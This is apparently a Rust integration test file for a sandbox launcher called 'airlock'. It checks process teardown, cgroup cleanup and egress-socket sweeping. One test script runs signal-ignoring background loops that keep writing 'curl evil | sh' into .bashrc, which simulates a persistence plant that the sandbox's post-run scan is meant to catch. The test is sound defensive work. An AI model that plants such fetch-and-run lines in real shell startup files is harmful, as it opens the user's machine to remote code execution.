//! The end of a run: the launcher tears down as soon as the jail's pid 1
//! reports the command's status, so that report must come only once
//! nothing else in the jail can act. Processes the command left behind
//! must be dead before the post-run scan for planted files, not merely
//! when pid 1 exits. With a root and with an unprivileged caller (see
//! `support`).

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

#[macro_use]
mod support;
use support::{is_root, run_cgroups, workdir, Jail, AIRLOCK};

both_modes!(leftover_processes_die_before_the_planted_file_scan);

/// Background writers that ignore every catchable signal keep planting a
/// protected file (and a marker) after the command exits. If they were
/// still alive during the scan, a file written after it would survive the
/// run.
fn leftover_processes_die_before_the_planted_file_scan(j: &Jail) {
    let d = workdir();
    let script = "for i in 1 2 3 4; do \
                  (trap '' HUP INT TERM USR1 USR2; \
                  while :; do echo 'curl evil | sh' > .bashrc; echo alive > survivor; done) & \
                  done; \
                  while [ ! -e survivor ]; do :; done; echo started";
    let out = j
        .cmd()
        .arg("run")
        .arg("--workdir")
        .arg(d.path())
        .args(["--", "/bin/sh", "-c", script])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout} {stderr}");
    assert_eq!(stdout, "started\n", "{stderr}");
    assert!(
        !d.path().join(".bashrc").exists(),
        "a planted .bashrc survived the run: {stderr}"
    );
    assert!(
        stderr.contains("planted protected file") && stderr.contains(".bashrc"),
        "{stderr}"
    );
    // Nothing is left to write again once airlock has returned.
    let _ = std::fs::remove_file(d.path().join("survivor"));
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        !d.path().join("survivor").exists(),
        "a background writer outlived the run"
    );
    assert!(
        !d.path().join(".bashrc").exists(),
        "a writer outlived the run"
    );
}

/// `airlock run` returns without waiting for the jail's own processes to
/// exit; the cleaner it leaves behind still removes the run's cgroups.
#[test]
fn the_runs_cgroups_are_removed_after_it_returns() {
    if !is_root() {
        eprintln!("SKIPPED: without root a run has no cgroups");
        return;
    }
    let d = workdir();
    let c = Command::new(AIRLOCK)
        .args(["run", "--workdir"])
        .arg(d.path())
        .args(["--", "sh", "-c", "sleep 0.5; echo done"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = c.id();
    let t = Instant::now();
    while run_cgroups(pid).is_empty() && t.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(
        !run_cgroups(pid).is_empty(),
        "the run has cgroups while it runs"
    );
    let out = c.wait_with_output().unwrap();
    assert!(out.status.success());
    assert_eq!(String::from_utf8_lossy(&out.stdout), "done\n");
    let t = Instant::now();
    loop {
        let left = run_cgroups(pid);
        if left.is_empty() {
            break;
        }
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "the run's cgroups stayed: {left:?}"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// The egress proxy's socket lives in `$TMPDIR/.airlock-egress-UID`, reused
/// by every run. It is bound on the jail's first connection, so a run that
/// never connects makes none; a run that does removes its own, and sweeps
/// the sockets of runs whose process is gone (killed before they could);
/// a live process's socket is left alone.
#[test]
fn egress_sockets_are_removed_and_stale_ones_swept() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp
        .path()
        .join(format!(".airlock-egress-{}", unsafe { libc::geteuid() }));
    std::fs::create_dir(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    // A process that has exited and been reaped: its pid is gone.
    let mut dead = Command::new("true").spawn().unwrap();
    let dead_pid = dead.id();
    dead.wait().unwrap();
    let stale = dir.join(format!("{dead_pid}-1.sock"));
    let live = dir.join(format!("{}-2.sock", std::process::id()));
    drop(std::os::unix::net::UnixListener::bind(&stale).unwrap());
    drop(std::os::unix::net::UnixListener::bind(&live).unwrap());
    let d = workdir();
    let run = |script: &str| {
        let out = Command::new(AIRLOCK)
            .args(["run", "--allow-net", "example.com", "--workdir"])
            .arg(d.path())
            .args(["--", "sh", "-c", script])
            .env("TMPDIR", tmp.path())
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(String::from_utf8_lossy(&out.stdout), "ok\n");
        let mut left: Vec<String> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        left.sort();
        left
    };
    let mut both = vec![
        format!("{dead_pid}-1.sock"),
        format!("{}-2.sock", std::process::id()),
    ];
    both.sort();
    assert_eq!(
        run("ls /tmp >/dev/null; sleep 0.3; echo ok"),
        both,
        "a run that never connects makes no socket and sweeps none"
    );
    // The proxy's answer (the name does not resolve here) does not matter.
    assert_eq!(
        run("curl -s -o /dev/null -m 10 http://example.com/; echo ok"),
        vec![format!("{}-2.sock", std::process::id())],
        "only the live process's socket stays"
    );
}
